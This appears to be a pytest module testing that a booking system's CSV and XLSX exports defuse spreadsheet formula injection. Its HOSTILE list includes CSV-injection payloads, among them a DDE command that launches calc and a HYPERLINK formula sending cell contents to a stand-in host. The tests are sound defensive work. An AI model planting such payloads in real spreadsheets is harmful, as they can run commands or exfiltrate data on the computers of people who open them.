"""What we hand out to spreadsheets says there what it says here, and runs nothing. Read back by other parsers."""

import csv
import io
import unicodedata
import zipfile
from datetime import UTC, date, datetime
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as some
from openpyxl.cell import WriteOnlyCell

from booking.sheets import Cell, Sheet, cells, csv_bytes, csv_file, is_formula, plain, xlsx_bytes, xlsx_file

HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u3000＝1+1", "＝1+1", "＋1", "－1", "＠A1", "\u22121", "﹢1", "\tplain", "\rplain",
    '=HYPERLINK("http://xau.example/?"&A1,"xem")', "\x00=1+1", "-2+3+cmd|' /C calc'!A0", "--1", '="a"',
]  # fmt: skip
HARMLESS = ["Nguyễn Thị Mẫu", "12 - 14 tuổi", "a=b", "'=1", "#N/A", "TRUE", "1e5", "07:30", "0254 300 0000", "", '"=1"']
NOW = datetime(2026, 11, 23, 18, 30, tzinfo=UTC)  # half past one at night of the 24th, on the facility's clock
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _sheet(*values: Cell) -> Sheet:
    return Sheet("Bảng", ("Tên", "Số"), [(value, number) for number, value in enumerate(values)])


def _read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _read_xlsx(content: bytes) -> dict[str, list[list[tuple[str, str]]]]:
    """Tab → rows → (kind, text) of each cell, by the standard library alone; a formula has the kind `formula`."""
    found = {}
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        book = ET.fromstring(file.read("xl/workbook.xml"))
        titles = [one.attrib["name"] for one in book.iter(f"{_MAIN}sheet")]
        strings = (
            ["".join(one.itertext()) for one in ET.fromstring(file.read("xl/sharedStrings.xml"))]
            if "xl/sharedStrings.xml" in file.namelist()
            else []
        )
        for number, title in enumerate(titles, start=1):
            tree = ET.fromstring(file.read(f"xl/worksheets/sheet{number}.xml"))
            found[title] = [[_cell(cell, strings) for cell in row] for row in tree.iter(f"{_MAIN}row")]
    return found


def _cell(cell: ET.Element, strings: list[str]) -> tuple[str, str]:
    kind = cell.attrib.get("t", "n")
    if cell.find(f"{_MAIN}f") is not None:
        return "formula", "".join(cell.itertext())
    text = "".join(cell.itertext())
    return ("text", strings[int(text)]) if kind == "s" else ("text" if kind == "inlineStr" else kind, text)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert is_formula(text)
    (_, (shown, _)) = _read_csv(csv_bytes(_sheet(text)))
    assert shown == f"'{plain(text)}"
    ((kind, written), _) = _read_xlsx(xlsx_bytes([_sheet(text)], made_at=NOW))["Bảng"][1]
    assert (kind, written) == ("text", plain(text))


@pytest.mark.parametrize("text", HARMLESS)
def test_what_it_would_not_run_is_left_as_it_is(text: str) -> None:
    assert not is_formula(text)
    assert _read_csv(csv_bytes(_sheet(text)))[1] == [text, "0"]
    ((kind, written), _) = _read_xlsx(xlsx_bytes([_sheet(text)], made_at=NOW))["Bảng"][1]
    assert (kind, written) == ("text", text)


@pytest.mark.parametrize(("written", "read"), [(",", ";"), (";", ","), ("\t", ";"), ("\t", ",")])
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_where_another_country_s_sign_parts_the_cells(text: str, written: str, read: str) -> None:
    """What comes behind a sign begins a cell of its own there, and quotes in the middle of a cell hold nothing."""
    values = (f"Mẫu{read}{text}", f'"{read}{text}', f'a{read}"{text}', f'a{read} "{text}{read}')
    told = csv_bytes(_sheet(*values), delimiter=written, mark=False).decode()
    cells_seen = [cell.replace('"', "").lstrip("\t") for line in told.splitlines() for cell in line.split(read)]
    assert len(cells_seen) > 3
    assert not [cell for cell in cells_seen if is_formula(cell)]


def test_a_sign_that_parts_nothing_anew_stays_as_it_is() -> None:
    for text in ("tim, mạch; phổi", "07:30, -1", "a,=1"):
        assert _read_csv(csv_bytes(_sheet(text)))[1][0] == text
    assert _read_csv(csv_bytes(_sheet("a;=1")))[1][0] == "a;'=1"


def test_control_without_the_guard_formulas_stand_in_both_files(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_file, "is_formula", lambda _: False)
    assert _read_csv(csv_bytes(_sheet("=1+1")))[1][0] == "=1+1"

    def unguarded(tab: object, value: Cell, **_: object) -> object:
        return WriteOnlyCell(tab, value=value)

    monkeypatch.setattr(xlsx_file, "_cell", unguarded)
    ((kind, _), _) = _read_xlsx(xlsx_bytes([_sheet("=1+1")], made_at=NOW))["Bảng"][1]
    assert kind == "formula"


@given(some.text(max_size=30))
def test_no_text_whatever_begins_as_a_formula(text: str) -> None:
    (_, (shown, number)) = _read_csv(csv_bytes(_sheet(text)))
    assert number == "0"
    first = next((sign for sign in shown.strip() if unicodedata.category(sign) not in cells._SKIPPED), "x")
    assert first not in set("=+-@")
    ((kind, written), _) = _read_xlsx(xlsx_bytes([_sheet(text)], made_at=NOW))["Bảng"][1]
    assert (kind, written) == ("text", plain(text))


def test_numbers_days_and_moments_keep_their_kind() -> None:
    values: list[Cell] = [-5, 12.5, date(2026, 11, 30), NOW, None]
    assert [row[0] for row in _read_csv(csv_bytes(_sheet(*values)))[1:]] == [
        "-5", "12.5", "2026-11-30", "2026-11-24 01:30:00", "",
    ]  # fmt: skip
    rows = _read_xlsx(xlsx_bytes([_sheet(*values)], made_at=NOW))["Bảng"]
    assert [row[0][0] for row in rows[1:5]] == ["n", "n", "n", "n"]
    assert [row[0][1] for row in rows[1:3]] == ["-5", "12.5"]


def test_a_hostile_title_and_two_alike() -> None:
    sheets = [Sheet("[Báo] cáo: 'a/b' " + "x" * 40, ("=1",), []), Sheet("Bảng", ("a",), []), Sheet("bảng", ("b",), [])]
    found = _read_xlsx(xlsx_bytes(sheets, made_at=NOW))
    titles = list(found)
    assert all(len(title) <= 31 and not set(title) & set("[]:*?/\\'") for title in titles)
    assert len({title.casefold() for title in titles}) == 3
    assert found[titles[0]][0] == [("text", "=1")]
